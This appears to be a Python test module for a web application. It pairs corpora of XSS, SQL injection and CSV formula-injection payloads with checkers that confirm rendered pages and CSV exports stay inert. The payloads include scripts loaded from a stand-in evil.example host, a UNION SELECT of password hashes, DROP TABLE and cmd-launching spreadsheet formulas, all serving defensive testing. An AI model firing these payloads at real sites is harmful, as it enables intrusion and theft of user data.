"""The attack corpus: what hostile people type, and how a page is judged inert.

XSS payloads cover script tags, event handlers, `javascript:` and `data:` URLs, SVG and
MathML, encoded and mixed-case variants, attribute and element breakers, and Markdown link
tricks; the SQL payloads cover quoting, comments, stacked queries, UNION and time-based
probes, and the full-text operators of SQLite FTS5 and PostgreSQL; the CSV payloads are
spreadsheet formulas (checked in the CSV exports).

`inert_problems(html)` lists what in a page would run or load something: the finder of
`tests/markup.py::live_markup`, allowing only the layout's own tags, and a check that those
own tags are ours (scripts and stylesheets from /static/, charts drawn by
engage.core.charts, forms posting to this site, no meta refresh), both in one reading of the
page: the corpora check some 15,000 pages a run, and parsing is most of the checking's cost.
"""

from urllib.parse import urlsplit

from tests.markup import _Finder

XSS_PAYLOADS = [
    # Script tags, plain, mixed case, split and sourced.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</div>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # URLs that run code, in HTML.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<form action=//evil.example><button>Go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # Breaking out of an attribute, a textarea, a title or a comment.
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # Encoded variants (must stay text, never be decoded into markup).
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Markdown link tricks.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "[x](java\nscript:alert(1))",
    # Template injection.
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
]

SQL_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE users; --",
    "1; SELECT pg_sleep(3) --",
    "' UNION SELECT email, password_hash FROM users --",
    "admin'--",
    "%' AND 1=0 UNION SELECT NULL --",
    "' || (SELECT email FROM users LIMIT 1) || '",
    "\\'; SELECT 1; --",
    # Full-text operators (FTS5 MATCH, to_tsquery).
    "a & (b | !c) <-> d:* NEAR(e f) \"g",
    "* OR title:x AND NOT -y ^z",
    "%_% \\ ' \" ( ) :",
]

# Spreadsheet formulas: the CSV exports must neutralise them.
CSV_PAYLOADS = [
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

PAYLOADS = XSS_PAYLOADS + SQL_PAYLOADS + CSV_PAYLOADS
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The tags our layout and pages use themselves; the checks below make sure they are ours.
OWN_TAGS = frozenset({"script", "link", "meta", "svg", "form"})
LOCAL_HOSTS = {"", "localhost"}


class _InertPage(_Finder):
    """Live markup (tests/markup.py's finder, the layout's own tags allowed), and whether
    those own tags are ours."""

    def __init__(self):
        super().__init__(set(OWN_TAGS))
        self.own_problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, attrs)
        values = dict(attrs)
        if tag == "script":
            src = values.get("src") or ""
            if not src.startswith("/static/"):
                self.own_problems.append(f"<script src={src[:40]!r}>")
            self.in_script = True
        elif tag == "link":
            href = values.get("href") or ""
            if urlsplit(href).netloc not in LOCAL_HOSTS or href.startswith("//"):
                self.own_problems.append(f"<link href={href[:40]!r}>")
        elif tag == "meta" and "http-equiv" in values:
            self.own_problems.append("<meta http-equiv>")
        elif tag == "svg" and "chart" not in (values.get("class") or "").split():
            self.own_problems.append("<svg> not drawn by engage.core.charts")
        elif tag == "form":
            action = values.get("action") or ""
            if "method" not in values or urlsplit(action).netloc not in LOCAL_HOSTS \
                    or action.startswith("//"):
                self.own_problems.append(f"<form action={action[:40]!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.own_problems.append(f"inline script {data.strip()[:30]!r}")


def inert_problems(html: str, payload: str | None = None) -> list[str]:
    """What in `html` would run or load something; [] for a safe page."""
    finder = _InertPage()
    finder.feed(html)
    problems = finder.problems + finder.own_problems
    if payload and "<" in payload and payload in html:
        problems.append("the payload is in the page unescaped")
    return problems


def formula_cells(rows) -> list[str]:
    """Cells of a parsed CSV that a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
